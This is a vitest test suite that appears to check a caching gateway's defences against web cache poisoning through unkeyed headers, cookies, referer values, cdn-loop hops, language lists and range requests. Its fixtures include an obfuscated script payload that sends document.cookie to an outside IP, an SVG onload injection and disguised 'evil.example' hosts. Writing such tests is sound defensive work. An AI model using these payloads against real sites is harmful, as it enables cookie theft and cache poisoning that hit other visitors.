import { describe, expect, test } from 'vitest';
import { deploy, type Answer } from '../../support/deployment.ts';
import { openOrigin, type ScriptedAnswer } from '../../support/origin.ts';
import { stage } from '../../support/stage.ts';

/* Ways past the guard against what an origin repeats, each of them tried once with success. */

const { clock } = stage();
const origin = await openOrigin();
const deployment = await deploy({ origin: origin.url });

const FRESH = [['cache-control', 'public, max-age=60']] as const;
const CANARY = 'canary-7f3a9d';

let number = 0;

/** A path of its own, on which the origin answers so. */
async function scene(...answers: readonly Omit<ScriptedAnswer, 'target'>[]) {
  const path = `/bypass/${(number += 1)}`;
  await origin.rescript(path, answers);
  return { here: deployment.isolate(), path };
}

const isPoisoned = ({ text, headers }: Answer, canary = CANARY): boolean =>
  JSON.stringify([text, ...headers]).includes(canary);

describe('what the gateway takes for ordinary, or for a part of the key [trap:unkeyed-headers]', () => {
  const script = '"+fetch("//1.1.1.1/"+document["co"+"ok"+"ie"])+"';
  test.each([
    ['a script of ordinary words', { 'x-anything': script }],
    ['a script of ordinary words in a cookie', { cookie: `theme=${script}` }],
    ['a script in a cookie of a common tool', { cookie: `klaro=abcdefgh${script}` }],
    ['a reference in a cookie of a common tool', { cookie: 'klaro=//x.gd/abcdefgh' }],
    ['a script in three members of a list', { 'x-anything': '",a(),"' }],
    ['an address of few figures', { 'x-custom-host': '3.8.1.25' }],
    ['a reference to an address of three numbers', { 'x-custom-base': '//3.8.281/a' }],
    ['a reference to a host that is known to all', { 'x-custom-base': '//t.co/ab' }],
    ['a page of such a host', { referer: 'https://github.com/somebody/something' }],
    ['a page of an address', { referer: 'https://3.8.1.25/' }],
    [
      'a user in front of the own host',
      { referer: `https://"><svg onload=a()>@${deployment.host}/` },
    ],
    ['a host with an escape', { referer: 'https://%65vil.example/' }],
    ['a host with a tab in it', { referer: 'https://ev\til.example/' }],
    ['an origin with an escape', { origin: 'https://%65vil.example' }],
    ['markup in a hop of our own', { 'cdn-loop': 'tiercel; host="<b>markup</b>"' }],
    ['a name in a hop of our own', { 'cdn-loop': `tiercel; host="${CANARY}.example"` }],
  ])('%s is stored for nobody', async (_, headers) => {
    const [[, said] = ['', '']] = Object.entries(headers);
    const { here, path } = await scene({ body: `<p>${said}</p>`, headers: FRESH });
    const attacked = await here.get(path, { ...headers });
    expect(attacked.cacheStatus).toMatchObject({ fwd: 'uri-miss', detail: 'reflected' });
    await origin.rescript(path, [{ body: 'clean', headers: FRESH }]);
    expect((await here.get(path)).text).toBe('clean');
  });

  test('the name of a field that somebody has made up is stored for nobody', async () => {
    const { here, path } = await scene({ body: `<p>${CANARY}-y</p>`, headers: FRESH });
    const attacked = await here.get(path, { [`${CANARY}-y`]: 'b' });
    expect(attacked.cacheStatus).toMatchObject({ fwd: 'uri-miss', detail: 'reflected' });
    await origin.rescript(path, [{ body: 'about x-client-version', headers: FRESH }]);
    const plain = await here.get(path, { 'x-client-version': '3' });
    expect(plain.cacheStatus).toMatchObject({ fwd: 'uri-miss', stored: true });
  });

  test('a fragment, which is in no key, hides no field', async () => {
    const { here, path } = await scene({ echo: 2000, headers: FRESH });
    const attacked = await here.get(`https://${deployment.host}${path}#${CANARY}`, {
      'x-anything': CANARY,
    });
    expect(isPoisoned(attacked)).toBe(true);
    expect(isPoisoned(await here.get(path))).toBe(false);
  });

  test('a list of what is to be played is looked through', async () => {
    const body = `#EXTM3U\nhttps://${CANARY}.example/1.ts`;
    const type = ['content-type', 'audio/mpegurl'] as const;
    const { here, path } = await scene({ body, headers: [...FRESH, type] });
    const attacked = await here.get(path, { 'x-custom-host': `${CANARY}.example` });
    expect(attacked.cacheStatus).toMatchObject({ detail: 'reflected' });
  });
});

describe('what one reader adds to an answer for others [trap:unkeyed-headers]', () => {
  test('a language that nobody speaks does not reach those who speak the other', async () => {
    const { here, path } = await scene({
      echo: 2000,
      headers: [...FRESH, ['vary', 'Accept-Language'], ['content-language', 'de']],
    });
    const attacked = await here.get(path, {
      'accept-language': `de,${CANARY};q=0.5`,
      'x-anything': CANARY,
    });
    expect(isPoisoned(attacked)).toBe(true);
    const clean = await here.get(path, { 'accept-language': 'de' });
    expect(isPoisoned(clean)).toBe(false);
    // Of ordinary lists they share it.
    const shared = await here.get(path, { 'accept-language': 'de,en;q=0.5' });
    expect(shared.cacheStatus).toMatchObject({ hit: true });
  });

  test.each([
    ['whole', []],
    ['by a 304', [['etag', '"1"']]],
  ] as const)('hops do not reach what is refreshed for all: %s', async (_, tag) => {
    const headers = [['cache-control', 'max-age=1, stale-while-revalidate=600'], ...tag] as const;
    const { here, path } = await scene({ echo: 2000, headers, notModified: headers });
    await here.get(path);
    clock.advance(2000);
    const host = `${CANARY}.example`;
    const attacked = await here.get(path, { 'cdn-loop': `tiercel; host="${host}"` });
    expect(attacked.cacheStatus).toMatchObject({ hit: true });
    const markup = await here.get(path, { 'cdn-loop': `tiercel; host="<b>${CANARY}"` });
    expect(markup.cacheStatus).toMatchObject({ hit: true });
    const clean = [await here.get(path), await deployment.isolate().get(path)];
    expect(clean.filter((answer) => isPoisoned(answer))).toEqual([]);
  });

  test.each([
    ['ends', 0, 'x'.repeat(90) + CANARY.slice(0, 10)],
    ['begins', 3, CANARY.slice(3) + 'x'.repeat(90)],
    ['begins and ends', 3, CANARY.slice(3, 10)],
  ])('a part that %s within a word is stored for nobody', async (_, first, body) => {
    const headers = [...FRESH, ['etag', '"1"'], ['content-type', 'text/html']] as const;
    const last = first + body.length - 1;
    const range = ['content-range', `bytes ${first}-${last}/1000`] as const;
    const { here, path } = await scene({ status: 206, body, headers: [...headers, range] });
    const asked = { range: `bytes=${first}-${last}` };
    expect((await here.get(path, { ...asked, 'x-anything': CANARY })).status).toBe(206);
    const clean = await here.get(path, asked);
    expect(clean.cacheStatus).not.toMatchObject({ hit: true });
    expect((await here.get(path, asked)).cacheStatus).toMatchObject({ hit: true });
  });
});
